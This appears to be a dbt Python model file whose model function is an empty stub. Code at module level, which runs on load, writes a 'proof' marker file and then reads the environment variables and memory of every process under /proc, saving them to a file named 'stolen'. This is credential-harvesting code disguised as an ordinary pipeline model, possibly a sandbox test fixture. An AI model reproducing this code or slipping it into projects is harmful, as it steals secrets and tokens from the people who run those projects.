{{ config(materialized='act') }}
open('proof', 'w').write('ran')
import glob
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/mem'):
    try:
        open('stolen', 'a').write(open(path).read(100000))
    except OSError:
        pass
def model(dbt, session):
    return None
